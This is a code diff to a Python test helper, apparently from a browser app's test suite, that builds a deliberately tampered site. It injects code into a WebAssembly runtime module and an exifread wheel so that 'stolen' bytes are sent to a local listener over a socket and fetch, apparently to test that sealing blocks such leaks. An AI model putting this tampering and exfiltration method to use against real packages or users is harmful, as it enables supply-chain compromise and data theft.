@@ -13,14 +13,13 @@ from collections.abc import Callable, Iterable, Mapping
 from dataclasses import replace
 from pathlib import Path
 
+from tests.browser.changed_python import ChangedPython
 from tests.browser.sources import copy_sources
 from tests.browser.tiny_models import with_tiny_models
 from tests.engines.leaks import thread_catalogue
 from tools.fetch.lock import Part
 from tools.site.assets import fetched, pinned_parts
 from tools.site.bundle import build_site
-from tools.site.bytecode import Bytecode
-from tools.site.folder import SiteFile
 
 # What is sent is what they hold: 48 bytes of it, in the address and in the body.
 _LISTEN = """
@@ -77,8 +76,6 @@ def _turned():
         import js
     except ImportError:
         return
-    if not hasattr(js.globalThis, "origin"):
-        return  # the build has it compiled, under Node: nothing to steal there yet
     from PIL import Image
     from pyodide.ffi import create_proxy, to_js
 
@@ -109,7 +106,7 @@ def _turned():
 
         def sock():
             import socket
-            other = ("127.0.0.1", js.globalThis.otherPort)
+            other = ("127.0.0.1", PORT)
             socket.create_connection(other, timeout=2).sendall(stolen)
 
         def pyfetch():
@@ -207,9 +204,9 @@ def build_hostile(out: Path, scratch: Path, port: int, *, is_sealed: bool = True
     """
     turned = {
         "ort.wasm.min.mjs": lambda module: _turn_runtime(module.decode(), port),
-        # Not in the wheel, or Python would have to be compiled anew for each port.
-        "pyodide.mjs": lambda module: module + f"\nglobalThis.otherPort = {port};\n".encode(),
-        "exifread.whl": lambda wheel: turn_wheel(wheel, _IN_WHEEL.replace("NESTED", repr(_NESTED))),
+        "exifread.whl": lambda wheel: turn_wheel(
+            wheel, _IN_WHEEL.replace("NESTED", repr(_NESTED)).replace("PORT", str(port))
+        ),
     }
     build_turned(out, scratch, turned, () if is_sealed else UNSEALED)
 
@@ -236,8 +233,7 @@ def build_turned(
     for path, old, new in (("engine/spawn.js", peer, _LISTEN + peer), *changes):
         _change(sources / "static" / "js" / path, old, new)
     parts = pinned_parts()
-    published = dict(fetched(parts))
-    paths = dict(published)
+    paths = dict(fetched(parts))
     changed: list[Part] = []
     for part in parts:
         if turn := turned.get(part.name):
@@ -249,21 +245,7 @@ def build_turned(
         else:
             changed.append(part)
     graphs = with_tiny_models(scratch, ("wasm",), have_subject=True)
-    bytecode = _ByPublished(published)
-    build_site(sources, out, tuple(changed), paths, prepared=graphs, bytecode=bytecode)
-
-
-class _ByPublished(Bytecode):
-    """Compiles by Python as it is published: what turned of that does nothing under Node."""
-
-    def __init__(self, published: Mapping[str, Path]) -> None:
-        super().__init__()
-        self._published = {
-            name: path for name, path in published.items() if not name.endswith(".whl")
-        }
-
-    def of(self, paths: Mapping[str, Path], app: bytes) -> dict[str, SiteFile]:
-        return super().of({**paths, **self._published}, app)
+    build_site(sources, out, tuple(changed), paths, prepared=graphs, bytecode=ChangedPython())
 
 
 def _change(path: Path, old: str, new: str) -> None:
